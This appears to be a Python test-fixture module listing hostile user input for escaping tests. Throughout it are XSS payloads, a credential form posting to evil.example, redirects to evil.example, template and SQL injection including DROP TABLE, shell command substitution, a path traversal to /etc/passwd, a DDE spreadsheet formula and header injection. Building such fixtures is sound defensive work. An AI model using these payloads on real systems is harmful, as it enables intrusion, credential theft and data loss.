"""Words that somebody writes, pastes or is sent by a network, and that must stay words wherever they are shown.

Every piece of markup in them carries ``zzx`` in a name of its own, so that a reader of a page knows ours from theirs;
``MARKS`` is what a page may show as text only, and ``ZZX`` is the flag that a script of theirs would set.
"""

MARK = "zzx"
FLAG = "window.zzx=1"
WORD = "Donaudampfschifffahrtsgesellschaft" * 295  # one word of 10,030 letters

MARKUP = [
    f"<script zzx>{FLAG}</script>",
    f'"><img zzx src=x onerror="{FLAG}">',
    f"'><svg zzx onload='{FLAG}'>",
    f"</textarea></title></template></style><img zzx src=x onerror={FLAG}>",
    f'" zzx onfocus="{FLAG}" autofocus x="',
    f"' zzx onmouseover='{FLAG}' x='",
    f"--><zzx-script>{FLAG}</zzx-script><!--",
    f'<a zzx href="javascript:{FLAG}">Your session ended</a>',
    f'<iframe zzx srcdoc="<script>{FLAG}</script>"></iframe>',
    '<form zzx action="https://evil.example/"><input name=password>',
    '<base zzx href="https://evil.example/"><link zzx rel=stylesheet href="//evil.example/a.css">',
    '<meta zzx http-equiv=refresh content="0;url=https://evil.example/">',
    "<style zzx>*{display:none}</style>",
    f"<div zzx hx-get=/evil hx-trigger=load hx-on:load={FLAG} data-controller=zzx data-action=zzx>",
    f"<math zzx><mtext><table><mglyph><style><img src onerror={FLAG}>",
    f"&lt;img zzx src=x onerror={FLAG}&gt; &#60;script&#62;",
    '"}\' ]} zzx, "on": "x" <b zzx>',
    f"javascript:{FLAG}//zzx",
]
TEMPLATES = [
    "{{ 'zzx'|add:'-drawn' }} {% now 'Y' %} {{ request.user.password }} {% load zzx %}",
    "${7*7} #{7*7} <%= 7*7 %> {0.__class__.__init__.__globals__} {zzx}",
    "%(zzx)s %(who)s %s %n %d %% 100%",
    "' OR 1=1; DROP TABLE team_user;-- zzx",
    "$(touch /tmp/zzx) `touch /tmp/zzx` ../../../etc/passwd%00",
]
FORMULAS = [
    '=cmd|"/C calc"!A0', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "＝1+1", '=HYPERLINK("https://evil.example/zzx")',
]  # fmt: skip
HEADERS = [
    "Ana\r\nBcc: zzx@evil.example",
    "Ana\nSet-Cookie: zzx=1",
    "Ana\u2028X-Zzx: 1\u2029X-Zzx: 2\x85X-Zzx: 3\x0b\x0cX-Zzx: 4",
    "Ana <zzx@evil.example>, Ben <b@evil.example>",
    "\x1b[31mzzx\x1b[0m\x07\x08",
]
SCRIPTS = [
    "مرحبا بكم في قهوة الميناء! 100% #قهوة https://harbour.example/א",
    "שלום, הקפה מוכן (כן!) ב-6:00",
    "\u202egnp.exe\u202d\u2066\u2067\u2068 never closed",
    "\u200f\u200e\u061c\u2067turned\u2069\u2069\u2069",
    "Z" + "\u0300\u0301\u0315\u035c\u0489" * 60 + "algo",
    "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg\u180eh",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿👨🏽‍🚀🇩🇪1️⃣☕️" * 12,
    "ก็ไม่มีช่องว่างระหว่างคำ" * 30,
    "\u3164\u115f\u2800 \u200b",
    "İstanbul ıI ß ẞ ﬁ Å Å \ufffd \ufffe \U0010ffff",
]
NOTHINGS = ["null", "None", "undefined", "NaN", "0", "false", "[object Object]", "-", "#", "?", "/", " ", "''"]

SHORT = [*MARKUP, *TEMPLATES, *FORMULAS, *HEADERS, *SCRIPTS, *NOTHINGS]
LONG = [*SHORT, WORD, "W" * 10_000, "line\n" * 400, " ".join(MARKUP)]


def cut(words: str, longest: int | None) -> str:
    return words[:longest] if longest else words
